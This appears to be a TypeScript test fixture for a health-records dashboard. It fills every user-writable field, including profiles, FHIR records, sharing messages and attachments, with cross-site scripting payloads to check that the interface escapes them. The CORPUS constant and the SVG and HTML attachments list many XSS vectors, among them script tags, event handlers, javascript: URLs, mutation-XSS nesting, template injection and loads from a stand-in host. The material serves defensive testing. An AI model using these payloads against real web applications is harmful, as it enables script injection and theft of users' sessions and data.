import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { toHex, utf8 } from '#crypto';
import { emptyProfile } from '#node/client';
import type { PhrClient, Profile, UploadRecord } from '#node/client';
import { categoryOf, clinicalMonthOf, keywordsOf, studyPurpose } from '#node/records';
import { DashboardWorld } from './dashboard-world.ts';

export const PASSPHRASE = 'eleven owls behind the barn';
const BUNDLE = '../fixtures/fhir/Luna60_McCullough561_6662f0ca-b617-4e02-8f55-7275e9f49aa0.json';
const DAY_MS = 24 * 3_600_000;

/** Short ways to run or load something, for fields of a few dozen letters. `at` tells where a text stood. */
export const payload = (at: string): string => `<x-s>${at}</x-s><img src=/xss onerror=xss()>`;

/** As many ways as a long text can try: elements, attributes, addresses, comments, templates, broken quotes. */
export const CORPUS = [
  '<script>xss()</script>',
  '"><script src=//xss.invalid/x.js></script>',
  '<img src=x onerror=xss()>',
  '<svg/onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<a href="javascript:xss()">a</a>',
  '<form action=//xss.invalid><input name=x><button formaction=javascript:xss()>',
  '<style>@import url(//xss.invalid/x.css);*{background:url(//xss.invalid/b)}</style>',
  '<link rel=stylesheet href=//xss.invalid/l.css><base href=//xss.invalid/>',
  '<meta http-equiv=refresh content="0;url=//xss.invalid/">',
  '<object data=//xss.invalid/o></object><embed src=//xss.invalid/e>',
  '<details open ontoggle=xss()><summary>s</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '</textarea></title></pre>--><x-s>out</x-s>',
  '{{constructor.constructor("xss()")()}}${xss()}#{xss()}<%= xss() %>',
  '\u202e<x-s>turned</x-s>\u0000\u2028xss()',
].join(' ');

/** Strings that say what a resource is rather than something of the patient: without them it would be another one. */
const KEPT = new Set([
  'resourceType',
  'id',
  'system',
  'code',
  'status',
  'reference',
  'contentType',
  'data',
  'url',
]);
const isTime = (text: string): boolean => /^\d{4}-\d\d(-\d\dT?.*)?$/.test(text);

/** Every text of a resource, however deep, with a payload in its place; `[]` when there is none. */
export function poisoned(value: unknown, at: string): unknown {
  if (typeof value === 'string') return isTime(value) ? value : payload(at);
  if (Array.isArray(value)) return value.map((each) => poisoned(each, at));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) => [
      name,
      KEPT.has(name) && typeof each === 'string' ? each : poisoned(each, `${at}.${name}`),
    ]),
  );
}

type Resource = Record<string, unknown> & { resourceType: string };

/** One resource of every type that Synthea writes, each of its texts and its narrative hostile. */
export function hostileResources(): Resource[] {
  const text = readFileSync(fileURLToPath(new URL(BUNDLE, import.meta.url)), 'utf8');
  const { entry } = JSON.parse(text) as { entry: { resource: Resource }[] };
  const first = new Map(
    entry.map(({ resource }) => [resource.resourceType, resource]).toReversed() as [string, Resource][],
  );
  const div = `<div xmlns="http://www.w3.org/1999/xhtml">${CORPUS}</div>`;
  const small = [...first.values()].filter((resource) => JSON.stringify(resource).length < 24 * 1024);
  return [...small, ...MORE].map((resource) => ({
    ...(poisoned(resource, resource.resourceType) as Resource),
    text: { status: 'generated', div },
  }));
}

const attachment = (contentType: string, body: string, title: string): Resource => ({
  resourceType: 'DocumentReference',
  status: 'current',
  description: title,
  date: new Date().toISOString(),
  content: [{ attachment: { contentType, title, data: Buffer.from(body).toString('base64') } }],
});

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="xss()"><script>xss()</script></svg>`;
/** What Synthea does not write, and documents that a browser would run if it were let. */
const MORE: Resource[] = [
  { resourceType: 'Device', deviceName: [{ name: 'x', type: 'user-friendly-name' }], type: { text: 'x' } },
  { resourceType: 'Organization', name: 'x', alias: ['x'] },
  { resourceType: 'Practitioner', name: [{ family: 'x', given: ['x'], text: 'x' }] },
  attachment('text/html', `<h1>page</h1>${CORPUS}`, 'html'),
  attachment('image/svg+xml', SVG, 'svg'),
  attachment('text/plain', CORPUS, 'plain'),
];

function recordOf(resource: Resource): UploadRecord {
  const [category, month] = [categoryOf(resource), clinicalMonthOf(resource)];
  const keywords = keywordsOf(resource, { category, month });
  return { resource: utf8(JSON.stringify(resource)), category, month, keywords };
}

const vital = (value: number): Resource => ({
  resourceType: 'Observation',
  status: 'final',
  category: [
    {
      coding: [{ code: 'vital-signs', system: 'http://terminology.hl7.org/CodeSystem/observation-category' }],
    },
  ],
  code: { coding: [{ system: 'http://loinc.org', code: '8867-4', display: payload('Observation.display') }] },
  effectiveDateTime: new Date(Date.now() - DAY_MS).toISOString(),
  valueQuantity: {
    value,
    unit: payload('Observation.unit'),
    code: '/min',
    system: 'http://unitsofmeasure.org',
  },
  note: [{ text: CORPUS }],
});

/** Everybody writes something hostile wherever a text can be written, and everybody has something to look at. */
export class HostileWorld {
  readonly world: DashboardWorld;
  readonly clients = new Map<string, PhrClient>();
  /** Records of the patient, by id. */
  records: string[] = [];
  /** Requests to the patient: one that waits, one that was refused. */
  requests: string[] = [];

  private constructor(world: DashboardWorld) {
    this.world = world;
  }

  static async open(fromPort: number): Promise<HostileWorld> {
    const all = new HostileWorld(await DashboardWorld.open('hostile texts', fromPort));
    try {
      await all.#people();
      await all.#care();
      await all.#sharing();
      await all.#emergency();
      return all;
    } catch (error) {
      // Nobody else knows of these processes yet.
      await all.world.close();
      throw error;
    }
  }

  client(name: string): PhrClient {
    return this.clients.get(name)!;
  }

  id(name: string): string {
    return toHex(this.client(name).keys.id);
  }

  async #people(): Promise<void> {
    const people = [
      ['maria', 'patient', 'north'],
      ['alice', 'doctor', 'north'],
      ['bob', 'doctor', 'east'],
      ['rhea', 'researcher', 'east'],
      ['ada', 'auditor', 'north'],
      ['pia', 'patient', 'north'],
      ['sten', 'patient', 'north'],
    ] as const;
    for (const [name, role, at] of people) {
      const client = await this.world.client(name, at);
      await client.people.register({ role, home: client.nodeId, profile: profileOf(name) });
      this.clients.set(name, client);
      if (name === 'pia') continue;
      await this.world.approve(toHex(client.keys.id), at);
      await client.account.addPassphrase({
        name: payload(`account ${name}`).slice(0, 64),
        passphrase: PASSPHRASE,
      });
    }
    const admin = await this.world.client(this.world.node().administrators[0]!);
    await admin.account.addPassphrase({ name: 'admin', passphrase: PASSPHRASE });
    await admin.people.suspend(this.client('sten').keys.id, payload('suspended because'));
    this.clients.set('admin', admin);
  }

  async #care(): Promise<void> {
    const [maria, alice] = [this.client('maria'), this.client('alice')];
    await this.client('admin').care.assign(maria.keys.id, alice.keys.id);
    await maria.care.acceptAssignment(alice.keys.id);
    const resources = [...hostileResources(), vital(71), vital(74)];
    const uploaded = await maria.records.upload({ patient: maria.keys.id, records: resources.map(recordOf) });
    this.records = uploaded.map(({ recordId }) => toHex(recordId));
    await maria.account.addPasskey({ prf: new Uint8Array(32).fill(3), label: payload('passkey') });
  }

  async #sharing(): Promise<void> {
    const [maria, bob, rhea] = [this.client('maria'), this.client('bob'), this.client('rhea')];
    const patient = maria.keys.id;
    const months = [clinicalMonthOf(vital(1))];
    const terms = { patient, categories: ['vital-signs'], months, expiresAtMs: Date.now() + 30 * DAY_MS };
    await maria.sharing.grant({ ...terms, delegate: bob.keys.id, purpose: 'TREAT' });
    const study = studyPurpose({ protocol: 'XSS-2026-001', title: payload('study') });
    await maria.sharing.grant({ ...terms, delegate: rhea.keys.id, purpose: study });
    const { request } = await bob.sharing.requestAccess({ patient, to: patient, message: CORPUS });
    const refused = await rhea.sharing.requestAccess({
      patient,
      to: patient,
      message: payload('asked by rhea'),
    });
    this.requests = [request, refused.request].map(toHex);
    const waiting = await maria.sharing.requests();
    const asked = waiting.find(({ from }) => toHex(from) === this.id('rhea'))!;
    await maria.sharing.refuseRequest(asked, payload('refused because'));
  }

  async #emergency(): Promise<void> {
    const [maria, bob] = [this.client('maria'), this.client('bob')];
    const summary = utf8(
      JSON.stringify(poisoned({ resourceType: 'AllergyIntolerance', code: { text: 'x' } }, 'allergy')),
    );
    const record = {
      resource: summary,
      category: 'emergency',
      month: 'all',
      keywords: ['type:allergyintolerance'],
    };
    await maria.records.upload({ patient: maria.keys.id, records: [record] });
    await maria.emergencies.optIn({ patient: maria.keys.id });
    const text = payload('emergency because');
    const asked = { patient: maria.keys.id, reason: 'BTG', text, lifetimeMs: DAY_MS } as const;
    await bob.emergencies.request(asked);
  }
}

function profileOf(name: string): Profile {
  const at = (field: string): string => payload(`${name} ${field}`);
  return {
    ...emptyProfile,
    family: at('family'),
    given: at('given'),
    number: at('number'),
    speciality: at('speciality'),
    contact: at('contact'),
    message: at('message'),
  };
}
